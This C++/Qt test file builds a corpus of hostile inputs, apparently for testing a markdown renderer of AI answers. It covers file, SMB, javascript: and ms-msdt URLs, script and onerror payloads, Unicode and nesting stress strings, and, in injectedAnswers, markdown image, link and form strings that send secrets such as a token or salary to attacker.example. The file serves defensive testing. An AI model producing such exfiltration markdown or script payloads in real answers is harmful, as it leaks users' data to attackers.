// SPDX-License-Identifier: GPL-3.0-or-later
#include "tests/ui/hostilecorpus.h"

#include <QtCore/QDir>

namespace gatehouse::test {

using namespace Qt::StringLiterals;

namespace {

QStringList targets(const QString& canary)
{
    return {canary + u"/x.png"_s,
            u"file:///etc/passwd"_s,
            u"file:///proc/self/environ"_s,
            u"\\\\attacker\\share\\x.png"_s,
            u"//attacker/share/x.png"_s,
            u"smb://attacker/share/x.png"_s,
            u"data:image/png;base64,iVBORw0KGgo="_s,
            u"data:text/html,<script>alert(1)</script>"_s,
            u"javascript:alert(1)"_s,
            u"JaVaScRiPt:alert(1)"_s,
            u"vbscript:msgbox(1)"_s,
            u"ms-msdt:/id PCWDiagnostic"_s,
            u"ms-officecmd:x"_s,
            u"search-ms:query=x"_s,
            u"qrc:/gatehouse/icons/app.svg"_s,
            u":/gatehouse/icons/app.svg"_s,
            u"ftp://attacker/x"_s,
            u"https://user:pass@attacker.example/"_s,
            u"https://login.microsoftonline.com@attacker.example/"_s,
            u"https://аpple.com/"_s,
            u"https://xn--80ak6aa92e.com/"_s,
            u"http://2130706433/"_s,
            u"cite:1"_s,
            u"#anchor"_s,
            u"mailto:a@b.example?bcc=c@d.example&body=secret"_s};
}

QString repeated(const QString& piece, int times)
{
    return piece.repeated(times);
}

void addShapes(std::vector<HostileText>& all, const QString& target, int number)
{
    const QString id = QString::number(number);
    const auto add = [&](const QString& shape, const QString& text) {
        all.push_back({shape + u' ' + id, text});
    };
    add(u"inline image"_s, u"![x]("_s + target + u")"_s);
    add(u"titled image"_s, u"![x]("_s + target + u" \"<img src="_s + target + u">\")"_s);
    add(u"reference image"_s, u"![x][r]\n\n[r]: "_s + target);
    add(u"reference image in one block"_s, u"![x][r]\n[r]: "_s + target);
    add(u"link"_s, u"[https://example.com/]("_s + target + u")"_s);
    add(u"link with tool tip"_s, u"[x]("_s + target + u" '<img src="_s + target + u"><b>x</b>')"_s);
    add(u"image in a link"_s, u"[![x]("_s + target + u")]("_s + target + u")"_s);
    add(u"autolink"_s, u"<"_s + target + u">"_s);
    add(u"img"_s, u"<img src=\""_s + target + u"\" onerror=alert(1)>"_s);
    add(u"style"_s,
        u"<style>@import url("_s + target + u"); * { background: url("_s + target + u") }</style>x"_s);
    add(u"svg"_s, u"<svg><image href=\""_s + target + u"\"/></svg>"_s);
    add(u"forged citation"_s, u"[\\[1\\]]("_s + target + u")"_s);
}

} // namespace

std::vector<HostileText> hostileTexts(const QString& canary)
{
    std::vector<HostileText> all;
    int number = 0;
    for (const QString& target : targets(canary))
        addShapes(all, target, number++);
    const auto add = [&](const QString& name, const QString& text) { all.push_back({name, text}); };
    for (int depth = 5; depth <= 30; depth += 5) {
        add(u"nested tables %1"_s.arg(depth),
            repeated(u"<table><tr><td>"_s, depth) + u"x"_s + repeated(u"</td></tr></table>"_s, depth));
        add(u"nested quotes %1"_s.arg(depth), repeated(u"> "_s, depth) + u"x"_s);
        add(u"nested lists %1"_s.arg(depth), repeated(u"- "_s, depth) + u"x"_s);
    }
    add(u"word of 1 MB"_s, QString(1 << 20, u'x'));
    add(u"word of 1 MB, wide"_s, QString(1 << 20, u'漢'));
    add(u"word of 1 MB in a code span"_s, u'`' + QString(1 << 20, u'x') + u'`');
    add(u"word of 1 MB in a fence"_s, u"```\n"_s + QString(1 << 20, u'x') + u"\n```"_s);
    add(u"100,000 combining marks"_s, u"a"_s + QString(100'000, QChar(u'\u0301')));
    add(u"combining marks on each letter"_s,
        repeated(u"a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308 "_s, 3000));
    add(u"marks by entity"_s, u"a"_s + repeated(u"&#769;"_s, 300));
    add(u"10,000 emphasis runs"_s, repeated(u"*a* "_s, 10'000));
    add(u"10,000 strong emphasis runs"_s, repeated(u"**a**_b_ "_s, 10'000));
    add(u"open emphasis"_s, repeated(u"*_"_s, 20'000));
    add(u"strikethrough"_s, repeated(u"~~a~~"_s, 5'000));
    add(u"open brackets"_s, QString(50'000, u'['));
    add(u"open image brackets"_s, repeated(u"!["_s, 30'000));
    add(u"links"_s, repeated(u"[a](https://example.com) "_s, 5'000));
    add(u"bare links"_s, repeated(u"https://example.com/a "_s, 5'000));
    add(u"mail"_s, repeated(u"a@example.com "_s, 5'000));
    add(u"backticks"_s, repeated(u"` `` ``` "_s, 10'000));
    add(u"table, wide"_s, repeated(u"|a"_s, 3'000) + u"|\n"_s + repeated(u"|-"_s, 3'000) + u"|\n"_s);
    add(u"table, long"_s, u"|a|b|\n|-|-|\n"_s + repeated(u"|1|2|\n"_s, 20'000));
    add(u"list, long"_s, repeated(u"- a\n"_s, 20'000));
    add(u"list, loose"_s, repeated(u"- a\n\n"_s, 20'000));
    add(u"list, deep by indentation"_s, [] {
        QString text;
        for (int depth = 0; depth < 300; ++depth)
            text += QString(2 * depth, u' ') + u"- a\n"_s;
        return text;
    }());
    add(u"quote, deep"_s, QString(100'000, u'>'));
    add(u"headings"_s, repeated(u"# a\n\n"_s, 10'000));
    add(u"rules"_s, repeated(u"---\n\n"_s, 10'000));
    add(u"blank lines"_s, QString(500'000, u'\n'));
    add(u"spaces"_s, QString(500'000, u' '));
    add(u"tabs"_s, QString(200'000, u'\t'));
    add(u"entities"_s, repeated(u"&amp;&#x202E;&nbsp;"_s, 10'000));
    add(u"right to left override"_s, u"invoice\u202Efdp.exe"_s);
    add(u"isolates"_s, repeated(u"\u2066\u2067a\u2069"_s, 20'000));
    add(u"override by entity"_s, u"invoice&#x202E;fdp.exe &#8238; &#65532; &#xFDD0;"_s);
    add(u"zero width"_s, u"pay\u200Bpal\u200C\u200D\uFEFF\u2060.com"_s);
    add(u"zero width flood"_s, QString(200'000, QChar(u'\u200B')));
    add(u"joiner flood"_s, QString(200'000, QChar(u'\u200D')));
    add(u"tag characters"_s, QString::fromUcs4(U"a\U000E0061\U000E0062\U000E007F"));
    add(u"object characters"_s, QString(50'000, QChar(QChar::ObjectReplacementCharacter)));
    add(u"frame characters"_s, repeated(QString(QChar(0xFDD0)) + QChar(0xFDD1), 20'000));
    add(u"paragraph separators"_s, QString(50'000, QChar(QChar::ParagraphSeparator)));
    add(u"NUL"_s, QString(50'000, QChar(u'\0')));
    add(u"terminal"_s, u"\u001B]8;;"_s + canary + u"\u0007x\u001B]8;;\u0007\u001B[2J\r\u009B31m"_s);
    add(u"lone surrogates"_s, QString(50'000, QChar(0xD800)));
    add(u"emoji chain"_s, repeated(QString::fromUcs4(U"\U0001F468\u200D"), 20'000));
    add(u"Arabic ligatures"_s, repeated(u"ﷺ"_s, 20'000));
    add(u"Devanagari chain"_s, repeated(u"क्"_s, 50'000));
    add(u"Tibetan stack"_s, u"ཀ"_s + repeated(u"ྐ"_s, 50'000));
    add(u"Hangul jamo"_s, repeated(u"ᄀ"_s, 50'000));
    add(u"Thai marks"_s, u"ก"_s + repeated(u"ู้"_s, 50'000));
    add(u"Zalgo lines"_s, repeated(u"H\u0336\u0321\u0322e\u0334\u0317 "_s, 20'000));
    add(u"mixed directions"_s, repeated(u"אבג abc 123 "_s, 5'000));
    QString planes;
    for (char32_t c = 0x20; c < 0x2FFFF; c += 37) {
        if (c < 0xD800 || c > 0xDFFF)
            planes += QString::fromUcs4(&c, 1);
    }
    add(u"every plane"_s, planes);
    add(u"every plane in a fence"_s, u"```\n"_s + planes + u"\n```"_s);
    add(u"every plane, strong"_s, u"**"_s + planes + u"**"_s);
    add(u"every plane, a word each"_s, [&planes] {
        QString words;
        for (const QChar c : planes)
            words += c.isLowSurrogate() ? c + u" "_s : c.isHighSurrogate() ? QString(c) : c + u"*x* "_s;
        return words;
    }());
    add(u"footnotes"_s, repeated(u"[^1] "_s, 3000) + u"\n\n[^1]: x"_s);
    add(u"reference definitions"_s, repeated(u"[a]: https://example.com\n"_s, 5000) + u"[a][a]"_s);
    add(u"task list"_s, repeated(u"- [ ] a\n"_s, 5000));
    add(u"HTML comment, open"_s, u"<!--"_s + QString(100'000, u'-'));
    add(u"CDATA, open"_s, repeated(u"<![CDATA["_s, 10'000));
    add(u"tags, open"_s, repeated(u"<a href='"_s, 10'000));
    add(u"front matter"_s, u"---\ntitle: x\n---\n"_s);
    add(u"fence, open"_s, u"````js\n"_s + repeated(u"let a;\n"_s, 10'000));
    add(u"fences"_s, repeated(u"```\na\n```\n"_s, 5'000));
    add(u"hard breaks"_s, repeated(u"a  \n"_s, 20'000));
    add(u"one paragraph of 200 KB"_s, repeated(u"lorem ipsum dolor sit amet "_s, 8'000));
    return all;
}

std::vector<HostileText> injectedAnswers(const QString& canary)
{
    std::vector<HostileText> all;
    const QStringList secrets{u"SECRET-TOKEN"_s, u"c2VjcmV0"_s, u"the%20salary%20is%2090000"_s};
    const QStringList hosts{
        canary, u"https://eu-prod.asyncgw.teams.microsoft.com/urlp/v1/url/content?url="_s + canary,
        u"https://contoso.sharepoint.com/x?u="_s + canary, u"http://attacker.example"_s,
        u"https://attacker.example:8443"_s};
    for (const QString& host : hosts) {
        for (const QString& secret : secrets) {
            const QString url = host + u"/?q="_s + secret;
            const QString id = QString::number(all.size());
            const auto add = [&](const QString& shape, const QString& text) {
                all.push_back({shape + u' ' + id, text});
            };
            add(u"picture"_s, u"Here you are.\n\n![logo]("_s + url + u")"_s);
            add(u"reference"_s, u"Here you are.\n\n![logo][r]\n\n[r]: "_s + url);
            add(u"reference, no space"_s, u"![logo][r]\n[r]:"_s + url);
            add(u"HTML"_s, u"<img src='"_s + url + u"'><link rel=stylesheet href='"_s + url + u"'>"_s);
            add(u"frame"_s,
                u"<iframe src='"_s + url + u"'></iframe><object data='"_s + url + u"'></object>"_s);
            add(u"autolink"_s, u"<"_s + url + u">"_s);
            add(u"link as a citation"_s, u"Proved by [1]("_s + url + u")."_s);
            add(u"link with a tool tip"_s, u"[click]("_s + url + u" \"![x]("_s + url + u")\")"_s);
            add(u"table"_s, u"|a|\n|-|\n|![x]("_s + url + u")|"_s);
            add(u"list"_s, u"1. ![x]("_s + url + u")\n2. <img src="_s + url + u">"_s);
            add(u"form"_s, u"<form action='"_s + url + u"'><input type=image src='"_s + url + u"'></form>"_s);
        }
    }
    return all;
}

} // namespace gatehouse::test
